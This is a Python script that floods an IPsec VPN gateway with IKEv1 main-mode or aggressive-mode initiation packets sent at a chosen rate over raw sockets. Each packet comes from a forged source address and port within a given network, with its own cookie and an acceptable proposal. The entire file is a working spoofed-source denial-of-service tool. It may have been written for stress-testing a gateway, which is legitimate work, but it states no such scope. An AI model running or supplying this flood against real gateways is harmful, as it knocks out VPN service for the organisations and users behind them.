"""flood.py GATEWAY NETWORK SECONDS RATE [GROUP]: first messages of IKEv1 main mode, so many a second, each from another forged
address of the network (first two octets, as 10.64) and port, each with a cookie of its own and an offer that the gateway takes.
GROUP: of aggressive mode, for the connection of that name, with a public value. Prints how many were sent, and their octets of
IP."""
import os
import socket
import struct
import sys
import time

gateway, network, seconds, rate = sys.argv[1], sys.argv[2], float(sys.argv[3]), int(sys.argv[4])
group = sys.argv[5].encode() if len(sys.argv) > 5 else None


def attribute(kind, value):
    return struct.pack("!HH", 0x8000 | kind, value)


transform = (attribute(1, 7) + attribute(14, 256) + attribute(2, 4) + attribute(4, 14) + attribute(3, 1) + attribute(11, 1) +
             struct.pack("!HHI", 12, 4, 28800))
transform = struct.pack("!BBHBBH", 0, 0, 8 + len(transform), 1, 1, 0) + transform
proposal = struct.pack("!BBHBBBB", 0, 0, 8 + len(transform), 1, 1, 0, 1) + transform
sa = struct.pack("!II", 1, 1) + proposal
nat_t = bytes.fromhex("4a131c81070358455c5728f20e95452f")


def chain(*parts):  # (type, body) each
    kinds = [kind for kind, _ in parts[1:]] + [0]
    return b"".join(struct.pack("!BBH", n, 0, 4 + len(body)) + body for n, (_, body) in zip(kinds, parts))


payloads = chain((1, sa), (13, nat_t))
if group is not None:
    payloads = chain((1, sa), (4, os.urandom(256)), (10, os.urandom(32)), (5, struct.pack("!BBH", 11, 0, 0) + group), (13, nat_t))
rest = bytes(8) + struct.pack("!BBBBII", 1, 0x10, 2 if group is None else 4, 0, 0, 28 + len(payloads)) + payloads
udp_len = 8 + 8 + len(rest)
prefix, dst = bytes(int(x) for x in network.split(".")), socket.inet_aton(gateway)
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 22)
began, sent, most = time.monotonic(), 0, int(seconds * rate)
while sent < most:
    due = min(most, int((time.monotonic() - began) * rate) + 1)
    if time.monotonic() - began > seconds + 5:
        break  # bounded in time, too
    if sent >= due:
        time.sleep(0.001)
        continue
    noise = os.urandom(12)
    source = prefix + bytes((noise[8], noise[9] or 1))
    header = struct.pack("!BBHHHBBH", 0x45, 0, 20 + udp_len, 0, 0, 64, 17, 0) + source + dst
    port = 1024 + (noise[10] << 8 | noise[11]) % 60000
    s.sendto(header + struct.pack("!HHHH", port, 500, udp_len, 0) + noise[:8] + rest, (gateway, 0))
    sent += 1
print(sent, sent * (20 + udp_len))
